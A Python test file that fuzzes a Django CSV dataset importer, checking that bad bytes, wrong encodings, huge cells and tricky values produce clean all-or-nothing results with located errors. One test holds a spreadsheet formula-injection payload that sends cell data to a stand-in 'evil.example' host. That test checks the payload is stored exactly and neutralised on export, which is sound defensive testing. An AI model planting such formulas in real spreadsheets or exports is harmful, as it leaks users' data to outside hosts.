"""Hostile input to the importer: random bytes, wrong encodings, huge cells, formula injection.
It never crashes and never half-writes: either every row goes in, or nothing does and each problem
names its file, line and field."""
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engagement.models import Attendance, Meeting
from entities.models import Entity
from interchange.services import dataset_import
from relationships.models import Disclosure, Relationship
from tests.examples import examples

pytestmark = pytest.mark.django_db
FUZZ = settings(max_examples=examples(40), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
LAKESIDE_FILES = ["entities.csv", "relationships.csv", "meetings.csv", "attendance.csv", "disclosures.csv"]


def stored_counts() -> tuple:
    return tuple(m.objects.count() for m in (Entity, Relationship, Meeting, Attendance, Disclosure))


def lakeside_files(lakeside_dir: Path) -> dict[str, bytes]:
    return {name: (lakeside_dir / "data" / name).read_bytes() for name in LAKESIDE_FILES}


def assert_all_or_nothing(files, before):
    result = dataset_import(files=files)  # must not raise
    if result.ok:
        assert stored_counts() != before or all(c.created == 0 for c in result.counts.values())
    else:
        assert stored_counts() == before, "a rejected import wrote something"
        for problem in result.problems:
            assert problem.file and str(problem).startswith(problem.file), problem
    return result


@FUZZ
@given(name=st.sampled_from(LAKESIDE_FILES), junk=st.binary(max_size=400))
def test_random_bytes_in_any_file(lakeside_dir, name, junk):
    files = lakeside_files(lakeside_dir)
    files[name] = junk
    assert_all_or_nothing(files, stored_counts())


@FUZZ
@given(name=st.sampled_from(LAKESIDE_FILES), position=st.integers(0, 5000), insert=st.binary(min_size=1, max_size=20))
def test_bytes_spliced_into_a_valid_file(lakeside_dir, name, position, insert):
    files = lakeside_files(lakeside_dir)
    data = files[name]
    cut = position % (len(data) + 1)
    files[name] = data[:cut] + insert + data[cut:]
    assert_all_or_nothing(files, stored_counts())


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1", "cp1252"])
def test_wrong_encodings_are_named(lakeside_dir, encoding):
    files = lakeside_files(lakeside_dir)
    files["entities.csv"] = files["entities.csv"].decode("utf-8").replace("Lakeside", "Lakesíde").encode(encoding)
    result = assert_all_or_nothing(files, stored_counts())
    assert not result.ok and any(p.file == "entities.csv" for p in result.problems)


def test_a_huge_cell_is_refused_with_its_field(lakeside_dir):
    files = lakeside_files(lakeside_dir)
    lines = files["entities.csv"].decode().splitlines()
    fields = lines[1].split(",")
    fields[1] = "x" * 2_000_000
    lines[1] = ",".join(fields)
    files["entities.csv"] = ("\n".join(lines) + "\n").encode()
    result = assert_all_or_nothing(files, stored_counts())
    assert not result.ok
    assert any(p.file == "entities.csv" and p.line == 2 for p in result.problems)


def test_formula_injection_is_stored_exactly_and_exported_exactly(lakeside_dir, tmp_path):
    """The interchange stays exact (round trips); spreadsheet downloads neutralise (core/spreadsheet.py)."""
    from core.spreadsheet import spreadsheet_safe
    from interchange.export import dataset_export_files

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    files = lakeside_files(lakeside_dir)
    text = files["entities.csv"].decode()
    files["entities.csv"] = text.replace("Lakeside Police Department,", f'"{formula.replace(chr(34), chr(34) * 2)}",', 1).encode()
    assert dataset_import(files=files).ok
    assert Entity.objects.get(external_id="lk-pd").name == formula
    assert formula.replace('"', '""') in dataset_export_files()["entities.csv"]
    assert spreadsheet_safe(formula) == "'" + formula


# values that have broken importers: numbers in other notations, dates out of range or in other
# forms, ids of other rows or none, whitespace of every kind, text where a choice is expected
TRICKY_CELLS = [
    "", " ", "\t", "\u00a0", "\u2028", "0", "-0", "0.0", "-1", "1e3", "1E+2", "1e400", "NaN", "Infinity", "-Infinity",
    "1,000", "1.000,50", "1.005", "10.01", "9.99", "0x10", "١٢", "2024-02-29", "2023-02-29", "0001-01-01", "9999-12-31",
    "2024-1-5", "20240105", "2024-01-05T00:00", "lk-pd", "LK-PD", "lk-pd ", "p-chief", "f-01", "m-001", "none", "null",
    "99999999999999999999999999999.999", "1e-1000000", "1.5e999999999", "0.004", "1234.567", "7.25", "1.234",
    "organizer", "funds", "person", "private_meeting", "a" * 301, "é" * 101, "=1+1", '"', "\r\n", "x\x00y",
]


@FUZZ
@given(name=st.sampled_from(LAKESIDE_FILES), row=st.integers(0, 10_000), column=st.integers(0, 20),
       value=st.one_of(st.sampled_from(TRICKY_CELLS), st.text(max_size=12)))
def test_any_value_in_any_cell_imports_or_is_reported_on_its_line_and_column(lakeside_dir, name, row, column, value):
    """One cell of the lakeside replaced by any value: imported, or refused with each problem on a
    line of the file and a column of its header ("-" for the row as a whole), nothing written."""
    import csv
    import io

    from interchange.format import csv_text

    files = lakeside_files(lakeside_dir)
    rows = list(csv.reader(io.StringIO(files[name].decode("utf-8"), newline="")))
    at_row, at_column = 1 + row % (len(rows) - 1), column % len(rows[0])
    rows[at_row][at_column] = value
    files[name] = csv_text(rows).encode("utf-8")

    result = assert_all_or_nothing(files, stored_counts())

    for problem in result.problems:  # its own file's: an id changed here is reported where other files name it
        records = list(csv.reader(io.StringIO(files[problem.file].decode("utf-8"), newline="")))
        assert 1 <= problem.line <= len(records) and (problem.column in records[0] or problem.column == "-"), problem
